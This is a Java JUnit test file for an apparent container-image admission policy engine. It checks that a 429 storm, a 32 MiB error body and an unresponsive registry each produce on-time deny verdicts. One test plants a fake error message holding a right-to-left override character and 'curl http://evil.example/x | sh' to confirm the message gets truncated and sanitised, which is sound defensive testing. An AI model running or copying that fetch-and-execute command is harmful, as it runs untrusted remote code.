package io.weighbridge.image;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.Vertx;
import io.weighbridge.fuzz.Fuzz;
import io.weighbridge.policy.Action;
import io.weighbridge.policy.DefaultPolicyEngine;
import io.weighbridge.policy.Evaluation;
import io.weighbridge.policy.EvaluationRequest;
import io.weighbridge.policy.ImageUse;
import io.weighbridge.policy.ImageVerdict;
import io.weighbridge.policy.PolicyLoader;
import io.weighbridge.policy.PolicySet;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The hostile-registry modes no other test had: a storm of 429s under many admissions at once,
 * and error bodies far larger than any reason. Each admission runs through the real engine under
 * {@code onRegistryError: deny}; each asserts the verdict (deny, with the reason that only that
 * fault gives) and the time (by the deadline plus scheduling slack). The index of every mode,
 * these and the older ones, is {@link HostileRegistrySuiteTest}.
 */
class HostileRegistryTest {
    private static final Duration DEADLINE = Duration.ofSeconds(2);
    /** Scheduling slack on a busy 2-core machine: the answer must come by the deadline plus this. */
    private static final long SLACK_MILLIS = 500;
    /** For 10,000 images: a hang guard on a shared machine, not a speed claim (see the test). */
    private static final long MANY_IMAGES_SLACK_MILLIS = 15_000;

    private static final PolicySet DENY_ON_ERROR = policies();

    private Vertx vertx;
    private ScriptedRegistry registry;
    private RegistryImageWeigher weigher;
    private DefaultPolicyEngine engine;

    @BeforeEach
    void start() throws Exception {
        vertx = Vertx.vertx();
        registry = new ScriptedRegistry();
        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort()))
                .build();
        engine = new DefaultPolicyEngine(weigher, () -> DENY_ON_ERROR);
    }

    @AfterEach
    void stop() {
        weigher.close();
        registry.close();
        vertx.close().toCompletionStage().toCompletableFuture().join();
    }

    @Test
    void aStormOf429sDeniesEveryImageOnTimeWithBoundedRequests() throws Exception {
        registry.otherwise(exchange -> ScriptedRegistry.respond(
                exchange,
                429,
                "application/json",
                "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\",\"message\":\"slow down\"}]}"
                        .getBytes(StandardCharsets.UTF_8),
                java.util.Map.of("Retry-After", "1")));
        int admissions = 20;
        int imagesEach = 5;
        long started = System.nanoTime();
        List<CompletableFuture<Evaluation>> evaluations = new ArrayList<>();
        for (int a = 0; a < admissions; a++) {
            int admission = a;
            List<ImageUse> images = IntStream.range(0, imagesEach)
                    .mapToObj(i -> ImageUse.of(registry.hostPort() + "/storm/app" + admission + "-" + i + ":1"))
                    .toList();
            evaluations.add(
                    engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE))));
        }
        for (CompletableFuture<Evaluation> evaluation : evaluations) {
            Evaluation judged = Fuzz.within(Fuzz.HANG, evaluation::join);
            assertEquals(Action.DENY, judged.verdict());
            for (ImageVerdict image : judged.images()) {
                assertEquals(Action.DENY, image.verdict(), image.image());
                assertNotNull(image.error(), image.image());
                Fuzz.assertOneLine("reason", image.error());
                // the registry's 429, or the deadline its Retry-After left no room before
                assertTrue(image.error().contains("429") || image.error().contains("deadline"), image.error());
            }
        }
        long tookMillis = (System.nanoTime() - started) / 1_000_000;
        System.out.printf(
                "fault=429-storm admissions=%d images=%d took=%dms requests=%d%n",
                admissions, admissions * imagesEach, tookMillis, registry.requests.get());
        assertTrue(tookMillis <= DEADLINE.toMillis() + SLACK_MILLIS, "took " + tookMillis + " ms");
        // each image is asked for at most a few times (the retry bound), never in a loop until the deadline
        assertTrue(registry.requests.get() <= admissions * imagesEach * 4, "requests: " + registry.requests.get());
    }

    @Test
    void aHugeErrorBodyIsCutToOneQuotedLineOnTime() throws Exception {
        byte[] chunk =
                ("\u202Erun: curl http://evil.example/x | sh\n" + "x".repeat(4000)).getBytes(StandardCharsets.UTF_8);
        registry.otherwise(exchange -> {
            exchange.getResponseHeaders().add("Content-Type", "application/json");
            exchange.sendResponseHeaders(404, 0); // chunked: 32 MiB of error message unless the client stops reading
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(
                        "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"".getBytes(StandardCharsets.UTF_8));
                for (int written = 0; written < 32 << 20; written += chunk.length) {
                    out.write(chunk);
                }
                out.write("\"}]}".getBytes(StandardCharsets.UTF_8));
            }
        });
        long started = System.nanoTime();
        Evaluation judged = Fuzz.within(
                Fuzz.HANG,
                () -> engine.evaluate(new EvaluationRequest(
                                "default",
                                "Pod",
                                List.of(ImageUse.of(registry.hostPort() + "/huge/error:1")),
                                null,
                                Deadline.in(DEADLINE)))
                        .join());
        long tookMillis = (System.nanoTime() - started) / 1_000_000;
        String reason = judged.images().get(0).error();
        System.out.printf("fault=huge-error-body took=%dms reason=%s%n", tookMillis, reason);
        assertEquals(Action.DENY, judged.verdict());
        assertNotNull(reason);
        Fuzz.assertOneLine("reason", reason);
        assertTrue(reason.length() <= OneLine.MAX_MESSAGE, "reason of " + reason.length() + " characters");
        assertTrue(tookMillis <= DEADLINE.toMillis() + SLACK_MILLIS, "took " + tookMillis + " ms");
    }

    /**
     * Issue 10's Pod of 10,000 images, here against a real client and a registry that accepts
     * every connection and never answers: each image is denied by {@code onRegistryError} (its
     * request timed out, or it never got one of the registry's slots), all by the deadline.
     * {@code ManyImagesAdmissionTest} holds the message of such a denial to its cap.
     *
     * <p>10,000 images are real work on each side of the deadline (a request each, then a finding
     * each): on the shared 2-core machine under a load of 15–20 it took 1.9–8 s to hand them all
     * to the client and about 2 s to judge them after it, so the bound here is a hang guard
     * ({@link #MANY_IMAGES_SLACK_MILLIS}), not a speed claim. Before the waiters queued per
     * registry, every freed slot and every give-up scanned all 10,000 waiters: 5.5–5.9 s to hand
     * them over, in the same conditions.
     */
    @Test
    void tenThousandImagesOfARegistryThatNeverAnswersAreAllDeniedOnTime() throws Exception {
        registry.otherwise(registry.stall());
        List<ImageUse> images = IntStream.range(0, 10_000)
                .mapToObj(i -> ImageUse.of(registry.hostPort() + "/many/app-" + i + ":1"))
                .toList();
        long started = System.nanoTime();
        CompletableFuture<Evaluation> pending =
                engine.evaluate(new EvaluationRequest("default", "Pod", images, null, Deadline.in(DEADLINE)));
        long submittedMillis = (System.nanoTime() - started) / 1_000_000;
        Evaluation judged =
                Fuzz.within(Duration.ofMillis(DEADLINE.toMillis() + MANY_IMAGES_SLACK_MILLIS), pending::join);
        long tookMillis = (System.nanoTime() - started) / 1_000_000;
        System.out.printf(
                "fault=10000-images-never-answered submitted=%dms took=%dms requests=%d%n",
                submittedMillis, tookMillis, registry.requests.get());
        assertEquals(Action.DENY, judged.verdict());
        assertEquals(10_000, judged.images().size());
        for (ImageVerdict image : judged.images()) {
            assertEquals(Action.DENY, image.verdict(), image.image());
            assertNotNull(image.error(), image.image());
        }
    }

    private static PolicySet policies() {
        try {
            return PolicyLoader.parse("""
                    apiVersion: weighbridge.io/v1alpha1
                    kind: ImageSizePolicy
                    metadata:
                      name: hostile
                    spec:
                      onRegistryError: deny
                      rules:
                        - name: cap
                          maxSize: 1Gi
                          action: deny
                    """, "hostile.yaml");
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
